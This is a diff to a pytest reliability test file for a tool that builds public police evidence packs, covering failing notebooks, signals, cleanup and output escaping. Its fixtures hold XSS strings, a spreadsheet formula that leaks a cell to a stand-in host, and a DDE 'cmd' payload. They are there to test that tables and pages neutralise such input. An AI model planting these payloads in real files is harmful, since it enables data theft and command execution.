@@ -1,12 +1,15 @@
-"""Failing notebooks, interrupted builds, read-only inputs, escaped text, public packs.
+"""Failing notebooks, interrupted builds (real processes, real signals), read-only inputs,
+escaped text, public packs, limits.
 
 Builds run the real command line on 13 hand-written months of street data. Broken notebooks are
-copies of the real ones with one cell added, found through ``PACK_NOTEBOOK_DIR``.
+copies of the real ones with one cell added, found through ``PACK_NOTEBOOK_DIR`` (so those builds
+run as separate processes; the others call ``pack.cli.main`` in-process).
 """
 
 from __future__ import annotations
 
 import html
+import json
 import os
 import shutil
 import signal
@@ -18,14 +21,16 @@ from pathlib import Path
 import nbformat
 import pytest
 from csvs import STREET_HEADER, street_row, write
+from folders import folder_state
 
-from pack.build.manifest import output_hashes
+from pack.cli import main
 from pack.config import NOTEBOOK_DIR, PROJECT_ROOT
 
 pytestmark = pytest.mark.slow
 
 SCRIPT = "<script>alert(1)</script>"
 MI_NOTE = '<img src=x onerror="alert(2)"> **bold** [link](javascript:alert(3))'
+MI_FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
 
 
 def run_pack(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
@@ -43,15 +48,6 @@ def build_args(data: Path, out: Path, *extra: str) -> list[str]:
     return ["build", "--data", str(data), "--out", str(out), "--period", "2024-01", "--baseline", "2023-01", *extra]
 
 
-def folder_state(folder: Path) -> dict[str, tuple[str, int, int]]:
-    """Every file's hash, size, mode and modification time: what 'untouched' means."""
-    hashes = output_hashes(folder)
-    return {
-        p: (hashes[p], (folder / p).stat().st_size, (folder / p).stat().st_mode, (folder / p).stat().st_mtime_ns)
-        for p in hashes
-    }
-
-
 @pytest.fixture(scope="module")
 def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("reliability") / "data"
@@ -66,7 +62,9 @@ def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
         "force/mi.csv",
         "indicator_id,period_start,period_end,value,unit,source,note\n"
         "neighbourhood_watch_members,2023-02-01,2024-01-31,58500,members,Force MI,"
-        f'"{MI_NOTE.replace(chr(34), chr(34) * 2)}"\n',
+        f'"{MI_NOTE.replace(chr(34), chr(34) * 2)}"\n'
+        f'speedwatch_groups,2023-02-01,2024-01-31,42,groups,"{MI_FORMULA.replace(chr(34), chr(34) * 2)}",'
+        "@SUM(1+1)*cmd|' /C calc'!A0\n",
     )
     return folder
 
@@ -76,8 +74,7 @@ def good_pack(data: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Pat
     """A public pack built from ``data``; with the data folder's state before and after."""
     out = tmp_path_factory.mktemp("packs") / "pack"
     before = folder_state(data)
-    result = run_pack(*build_args(data, out, "--public", "--suppress-below", "5"))
-    assert result.returncode == 0, result.stderr
+    assert main(build_args(data, out, "--public", "--suppress-below", "5")) == 0
     return out, before, folder_state(data)
 
 
@@ -98,9 +95,23 @@ def test_text_from_data_is_escaped(good_pack: tuple[Path, dict, dict]) -> None:
     )  # the MI note too
 
 
-def test_public_pack_suppresses_and_the_manifest_says_so(good_pack: tuple[Path, dict, dict]) -> None:
-    import json
+def test_no_cell_of_a_table_can_run_as_a_formula(good_pack: tuple[Path, dict, dict]) -> None:
+    """The MI file's source and note begin with = and @: in tables/*.csv they begin with ' instead."""
+    import csv
 
+    out, _, _ = good_pack
+    cells = []
+    for path in sorted((out / "tables").glob("*.csv")):
+        with path.open(newline="", encoding="utf-8") as handle:
+            cells += [cell for row in csv.reader(handle) for cell in row]
+    assert "'" + MI_FORMULA in cells  # the hostile text reached a table, neutralised
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        if cell.startswith("-"):
+            float(cell)  # a negative number, nothing else
+
+
+def test_public_pack_suppresses_and_the_manifest_says_so(good_pack: tuple[Path, dict, dict]) -> None:
     out, _, _ = good_pack
     manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
     disclosure = manifest["disclosure"]
@@ -126,10 +137,10 @@ def broken_notebooks(folder: Path, changes: dict[str, str]) -> Path:
 
 
 def test_failing_notebooks_are_reported_kept_and_leave_the_previous_pack(good_pack, data, tmp_path) -> None:
-    out, _, _ = good_pack
+    out = shutil.copytree(good_pack[0], tmp_path / "pack")  # a previous pack of this test's own
     previous = folder_state(out)
     notebooks = broken_notebooks(
-        tmp_path / "notebooks",
+        tmp_path / "broken",
         {
             "03_road_safety": "raise RuntimeError('deliberate failure for the test')",
             "04_rural_crime": "import time\ntime.sleep(60)",
@@ -145,11 +156,22 @@ def test_failing_notebooks_are_reported_kept_and_leave_the_previous_pack(good_pa
     assert "03_road_safety: cell 4 raised RuntimeError: deliberate failure for the test" in result.stderr
     assert "04_rural_crime: a cell ran longer than the per-cell timeout (5 s)" in result.stderr
     assert "05_victim_support_safeguarding: the kernel running 05_victim_support_safeguarding died" in result.stderr
+    assert "00_strategic_summary: not run: it reads the indicator tables of the notebooks that failed" in result.stderr
     assert folder_state(out) == previous  # the previous good pack is untouched
     failed = out.parent / f"{out.name}.failed"
+    assert f"executed notebooks and errors: {failed}" in result.stderr and failed.is_dir()  # named, and there
+    assert json.loads((failed / "FAILED.json").read_text(encoding="utf-8"))["failed"] == [
+        "03_road_safety",
+        "04_rural_crime",
+        "05_victim_support_safeguarding",
+        "00_strategic_summary",
+    ]
     page = (failed / "FAILED.html").read_text(encoding="utf-8")
     assert "notebooks/03_road_safety.ipynb" in page and "deliberate failure for the test" in page
-    assert "03_road_safety" in (failed / "errors.txt").read_text(encoding="utf-8")
+    errors = (failed / "errors.txt").read_text(encoding="utf-8")
+    assert errors.startswith("03_road_safety: cell 4 raised RuntimeError: deliberate failure for the test\n")
+    assert "    RuntimeError: deliberate failure for the test" in errors  # the kernel's traceback, uncoloured
+    assert "\x1b[" not in errors and "<summary>Traceback</summary>" in page
     for stem in ("01_strong_local_policing", "02_neighbourhood_crime_asb", "06_driving_efficiencies", "03_road_safety"):
         assert (failed / "notebooks" / f"{stem}.ipynb").is_file(), stem  # the others still ran
     assert not (failed / "evidence-pack.html").exists()
@@ -168,10 +190,9 @@ def _kernels_of(pid: int) -> list[int]:
 
 
 def test_sigterm_mid_build_leaves_previous_pack_and_no_partial(good_pack, data, tmp_path) -> None:
-    out, _, _ = good_pack
-    shutil.rmtree(out.parent / f"{out.name}.failed", ignore_errors=True)
+    out = shutil.copytree(good_pack[0], tmp_path / "pack")  # a previous pack of this test's own
     previous = folder_state(out)
-    notebooks = broken_notebooks(tmp_path / "notebooks", {"02_neighbourhood_crime_asb": "import time\ntime.sleep(120)"})
+    notebooks = broken_notebooks(tmp_path / "broken", {"02_neighbourhood_crime_asb": "import time\ntime.sleep(120)"})
     proc = subprocess.Popen(
         [sys.executable, "run_pack.py", *build_args(data, out, "--public", "--force")],
         cwd=PROJECT_ROOT,
@@ -189,7 +210,9 @@ def test_sigterm_mid_build_leaves_previous_pack_and_no_partial(good_pack, data, 
     proc.send_signal(signal.SIGTERM)
     _, stderr = proc.communicate(timeout=60)
     assert proc.returncode == 128 + signal.SIGTERM
-    assert "interrupted (SIGTERM): no pack written; the previous pack is untouched" in stderr
+    assert stderr.splitlines()[-1] == (
+        "interrupted (SIGTERM) while running the notebooks: no pack written; the previous pack is untouched"
+    )
     assert folder_state(out) == previous
     assert not list(out.parent.glob(f".{out.name}.partial-*")) and not list(out.parent.glob(f".{out.name}.old-*"))
     time.sleep(2)  # nothing left behind re-creates it either
@@ -201,7 +224,7 @@ def test_sigterm_mid_build_leaves_previous_pack_and_no_partial(good_pack, data, 
     assert not _kernels_of(proc.pid)
 
 
-def test_bad_parameters_stop_before_any_notebook(data: Path, tmp_path: Path) -> None:
+def test_bad_parameters_stop_before_any_notebook(data: Path, tmp_path: Path, capsys) -> None:
     out = tmp_path / "pack"
     for args, message in (
         (["--period", "2024-13"], "period"),
@@ -209,9 +232,10 @@ def test_bad_parameters_stop_before_any_notebook(data: Path, tmp_path: Path) -> 
         (["--data", str(tmp_path / "nowhere")], "does not exist"),
         (["--suppress-below", "0", "--public"], "suppression threshold"),
     ):
-        result = run_pack("build", "--data", str(data), "--out", str(out), "--period", "2024-01", *args)
-        assert result.returncode == 2, (args, result.stderr)
-        assert "error:" in result.stderr and message in result.stderr and "Traceback" not in result.stderr
+        code = main(["build", "--data", str(data), "--out", str(out), "--period", "2024-01", *args])
+        err = capsys.readouterr().err
+        assert code == 2, (args, err)
+        assert "error:" in err and message in err and "Traceback" not in err
         assert not out.exists()
 
 
@@ -223,11 +247,106 @@ def test_unknown_build_parameter_is_an_error() -> None:
         build(period_end="2024-01", winodw=12)
 
 
-def test_more_jobs_than_cores_never_races(data: Path, tmp_path: Path) -> None:
-    """Kernels start one at a time: parallel notebooks cannot collide on ports at start-up."""
-    jobs = str(3 * (os.cpu_count() or 2))
+def test_more_jobs_than_notebooks_never_races(data: Path, tmp_path: Path, capsys) -> None:
+    """Kernels start one at a time: parallel notebooks cannot collide on ports at start-up; and
+    ``--jobs`` beyond the notebooks that can run at once starts no idle kernels."""
     for attempt in range(3):
-        result = run_pack(*build_args(data, tmp_path / f"pack-{attempt}", "--jobs", jobs, "--force"))
-        assert result.returncode == 0, result.stderr
-        assert "address already in use" not in result.stderr.lower() or "starting another" in result.stderr
-        assert result.stderr.count(" done in ") == 8  # every notebook executed, none reused
+        code = main(build_args(data, tmp_path / f"pack-{attempt}", "--jobs", "100", "--force"))
+        err = capsys.readouterr().err
+        assert code == 0, err
+        assert "Execute: --jobs 100 capped at 7, the notebooks that can run at once" in err
+        assert "7 at a time" in err
+        assert "address already in use" not in err.lower()
+        assert "failed to start" not in err  # no start-up had to be retried
+        assert err.count(" done in ") == 8  # every notebook executed, none reused
+
+
+def _children(pid: int) -> dict[int, str]:
+    """Processes whose parent is ``pid``: {process id: command line}."""
+    found = {}
+    for proc in Path("/proc").iterdir():
+        try:
+            if proc.name.isdigit() and int((proc / "stat").read_text().rsplit(")", 1)[1].split()[1]) == pid:
+                found[int(proc.name)] = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
+        except (OSError, ValueError, IndexError):
+            continue
+    return found
+
+
+def _alive(pid: int) -> bool:
+    try:
+        return (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
+    except OSError:
+        return False
+
+
+def _start_prepare(shared_real_data: Path, tmp_path: Path, **popen: object) -> tuple[subprocess.Popen, list[int]]:
+    """A build of the whole shared data folder (large enough to be read by worker processes) with
+    an empty cache; returns once its workers are reading."""
+    proc = subprocess.Popen(
+        [sys.executable, "run_pack.py", "build", "--data", str(shared_real_data), "--out", str(tmp_path / "p")],
+        cwd=PROJECT_ROOT,
+        env={**os.environ, "PACK_CACHE_DIR": str(tmp_path / "cache")},
+        stderr=subprocess.PIPE,
+        text=True,
+        **popen,
+    )
+    deadline = time.monotonic() + 120
+    workers: list[int] = []
+    while time.monotonic() < deadline and not workers:
+        workers = [pid for pid, command in _children(proc.pid).items() if "spawn_main" in command]
+        time.sleep(0.1)
+    assert workers, "the prepare stage never started worker processes"
+    time.sleep(1)  # the workers are reading files
+    return proc, workers
+
+
+@pytest.mark.parametrize("how", ["SIGTERM", "Ctrl-C"])
+def test_a_signal_during_prepare_stops_the_workers(shared_real_data: Path, tmp_path: Path, how: str) -> None:
+    """SIGTERM to the build, or Ctrl-C (SIGINT to the whole process group, workers and kernels
+    included): one line, the workers and kernels gone, no unfinished prepared data left."""
+    proc, workers = _start_prepare(shared_real_data, tmp_path, start_new_session=True)
+    kernels = [pid for pid, command in _children(proc.pid).items() if "ipykernel" in command]
+    if how == "SIGTERM":
+        proc.send_signal(signal.SIGTERM)
+    else:
+        os.killpg(proc.pid, signal.SIGINT)
+    _, stderr = proc.communicate(timeout=60)
+    name = "SIGTERM" if how == "SIGTERM" else "SIGINT"
+    assert proc.returncode == 128 + signal.Signals[name].value
+    assert (
+        stderr.splitlines()[-1] == f"interrupted ({name}) while preparing the data: no pack written; no previous pack"
+    )
+    assert "Traceback" not in stderr and "Warning" not in stderr, stderr
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline and any(_alive(pid) for pid in workers + kernels):
+        time.sleep(0.2)
+    assert not any(_alive(pid) for pid in workers + kernels)
+    assert not list((tmp_path / "cache" / "prepared").glob("reading.*"))
+    assert not (tmp_path / "p").exists() and not list(tmp_path.glob(".p.*"))
+
+
+def test_a_build_killed_outright_is_cleaned_up_by_the_next(data: Path, tmp_path: Path, capsys) -> None:
+    """kill -9 runs no handler: the staging folder stays, until the next build into the same place
+    removes it (with a log line) and publishes its pack."""
+    notebooks = broken_notebooks(tmp_path / "notebooks", {"02_neighbourhood_crime_asb": "import time\ntime.sleep(120)"})
+    out = tmp_path / "pack"
+    proc = subprocess.Popen(
+        [sys.executable, "run_pack.py", *build_args(data, out, "--force")],
+        cwd=PROJECT_ROOT,
+        env={**os.environ, "PACK_NOTEBOOK_DIR": str(notebooks)},
+        stderr=subprocess.DEVNULL,
+    )
+    staging = tmp_path / f".pack.partial-{proc.pid}"
+    deadline = time.monotonic() + 90
+    while time.monotonic() < deadline and not (staging / "notebooks" / "01_strong_local_policing.ipynb").exists():
+        time.sleep(0.5)
+    proc.kill()
+    proc.wait()
+    assert staging.is_dir()  # left behind
+    assert main(build_args(data, out)) == 0
+    err = capsys.readouterr().err
+    assert (
+        f"Cleanup: removed the unfinished pack {staging} left by a build that was stopped (process {proc.pid})" in err
+    )
+    assert not staging.exists() and (out / "evidence-pack.html").is_file()
